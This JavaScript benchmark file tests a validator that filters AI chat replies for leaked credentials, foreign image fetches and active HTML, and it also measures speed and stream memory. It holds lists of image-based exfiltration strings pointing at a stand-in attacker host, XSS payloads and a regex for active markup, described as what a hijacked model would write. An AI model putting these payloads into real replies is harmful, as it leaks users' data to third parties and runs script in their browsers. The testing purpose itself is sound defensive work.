import { createResponseValidator } from '@sallyport/response-validator';
import sanitizeHtml from 'sanitize-html';
import { caught, corpus, prose } from '../corpora/secrets.mjs';
import { policy as hostPolicy, smuggled } from '../corpora/links.mjs';
import { sideBySide } from '../measure.mjs';
import { firstTokenFigure, openStreamsFigure, processorFigure } from '../stream/figures.mjs';
import { releasedOf } from '../stream/released.mjs';
import { sqlFigures, sqlRows } from '../validator/sql.mjs';
import { xssFigure } from '../validator/xss.mjs';
import { importSource } from '../source.mjs';

const { createMarkupFilter } = await importSource('packages/response-validator/src/markup/markup-filter.ts');

const completion = (content) =>
  JSON.stringify({
    id: 'c1',
    object: 'chat.completion',
    choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }],
    usage: { prompt_tokens: 9, completion_tokens: 9 },
  });
const inspector = async (options) =>
  (await createResponseValidator(options).check({ principal: undefined, prompt: { canaries: [], tools: undefined } }))
    .reply;
const inspect = async (reply, content) =>
  reply.inspect({ statusCode: 200, contentType: 'application/json', text: completion(content) });
const leaves = (verdict, content) =>
  verdict.action === 'deny' ? '' : verdict.action === 'replace' ? verdict.text : content;

// Ways to make a page fetch a foreign address, or to run a script, as a hijacked model would write them.
const HOST = 'evil.example';
const images = [
  `![a](https://${HOST}/?d=1)`,
  `![a]( https://${HOST}/?d=1 "t")`,
  `![a][r]\n\n[r]: https://${HOST}/?d=1`,
  `<img src="https://${HOST}/?d=1">`,
  `<IMG SRC=//${HOST}/a>`,
  `<img srcset="https://${HOST}/a 1x">`,
  `![a](//${HOST}/a)`,
  `![a](https://good.example@${HOST}/a)`,
  `![a](https:\\\\${HOST}/a)`,
  `<video poster="https://${HOST}/a"></video>`,
];
const scripts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>1</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input></form>',
  '<style>@import "https://evil.example"</style>',
  '<meta http-equiv=refresh content=0>',
];
// Inside a tag only: what was escaped is text.
const active = /<(?:script|iframe|form|style|meta|svg)\b|<[^>]*\son\w+=|<[^>]*javascript:/i;

const credentials = corpus(9).values.filter(({ group }) => group === 'credential');

export const figures = [
  {
    what: `share of ${credentials.length} seeded credentials that leave in a JSON reply`,
    max: 0.01,
    measure: async () => {
      const reply = await inspector({ secrets: 'redact' });
      let left = 0;
      for (const row of credentials) {
        const out = leaves(await inspect(reply, row.text), completion(row.text));
        const { content } = out === '' ? { content: '' } : JSON.parse(out).choices[0].message;
        if (!caught(content, row)) left++;
      }
      return { value: left / credentials.length };
    },
  },
  {
    what: 'ways to fetch a foreign image that leave, of 10',
    max: 0,
    measure: async () => {
      const reply = await inspector({});
      const verdicts = await Promise.all(images.map((content) => inspect(reply, `Here: ${content}`)));
      return { value: verdicts.filter((verdict, index) => leaves(verdict, images[index]).includes(HOST)).length };
    },
  },
  {
    what: 'active HTML that leaves, of 8',
    max: 0,
    measure: async () => {
      const reply = await inspector({ images: 'allow', links: 'allow' });
      const verdicts = await Promise.all(scripts.map((content) => inspect(reply, `Look ${content}`)));
      return { value: verdicts.filter((verdict, index) => active.test(leaves(verdict, scripts[index]))).length };
    },
  },
  {
    what: 'ordinary replies changed or refused, of 300',
    max: 0,
    measure: async () => {
      const reply = await inspector({});
      let touched = 0;
      for (let index = 0; index < 300; index++) {
        const content = `${prose(600, index)} See \`a < b && c > d\` and [our page](/help).`;
        if ((await inspect(reply, content)).action !== 'release') touched++;
      }
      return { value: touched };
    },
  },
  {
    what: 'time to validate a 2 KB reply with the defaults, times sanitize-html on its text',
    max: 12,
    measure: async () => {
      const reply = await inspector({});
      const content = prose(2048, 3);
      const result = await sideBySide(
        () => inspect(reply, content),
        () => sanitizeHtml(content),
        { batch: 50 },
      );
      return {
        value: result.ratio,
        peer: `sanitize-html ${result.theirs.toFixed(0)} us; ours ${result.ours.toFixed(0)}`,
      };
    },
  },
  {
    what: 'ways to lead or fetch to a foreign host that leave, whole or in a stream',
    max: 0,
    measure: async () => {
      const validator = createResponseValidator({
        links: { allowedHosts: hostPolicy.links },
        images: { allowedHosts: hostPolicy.images },
        html: 'allow',
      });
      const passed = [];
      for (const { name, text } of smuggled) {
        const checked = await validator.validate(text);
        const streams = await Promise.all([1, 4, 1000].map((size) => releasedOf(validator, text, size)));
        if (checked.ok || streams.some(({ stopped }) => !stopped)) passed.push(name);
      }
      return { value: passed.length, peer: `of ${smuggled.length}`, notes: passed };
    },
  },
  {
    what: 'added CPU a chunk of 120 bytes (secrets, personal, links, promptLeak), times a patched res.write that parses, tests 4 expressions and rewrites',
    max: 1.5,
    measure: async () => {
      const { value, patched, guarded } = await processorFigure();
      return { value, peer: `patched ${patched.toFixed(2)} us; ours ${guarded.toFixed(2)}` };
    },
  },
  ...firstToken(),
  ...openStreams(),
  ...sqlFigures,
];

function firstToken() {
  let measured;
  const shortfall =
    'the handler is reached 0.08 ms later and the first write takes 0.2 ms more, in a process that has just woken and finds ' +
    'its caches cold (0.04 and 0.1 in a loop); the rest is waiting behind others. Was 0.58 before accessors were shared, ' +
    'seldom used parts made late and clean short texts remembered; what is left is spread over a hundred small steps.';
  const once = () => (measured ??= firstTokenFigure());
  const rerun = (name) => async () => {
    const result = await once();
    measured = undefined;
    return {
      value: Math.max(0, result[name]),
      peer: `unguarded ${result.bare.toFixed(2)} ms; 50 streams open, rounds in turn`,
    };
  };
  return [
    { what: 'time to the first token, added, median, ms', max: 0.2, shortfall, measure: rerun('median') },
    { what: 'time to the first token, added, 99th percentile, ms', max: 1, measure: rerun('p99') },
  ];
}

function openStreams() {
  let measured;
  const once = () => (measured ??= openStreamsFigure());
  return [
    {
      what: 'bytes that guarding adds to one open stream',
      max: 16_384,
      measure: async () => ({ value: Math.round((await once()).added), peer: 'of 2,000 open at once' }),
    },
    {
      what: 'streams lost, of 2,000 open at once',
      max: 0,
      measure: async () => ({ value: (await once()).lost }),
    },
  ];
}

export const onPublicData = (folder) => [xssFigure(folder, createMarkupFilter), ...sqlRows(folder)];
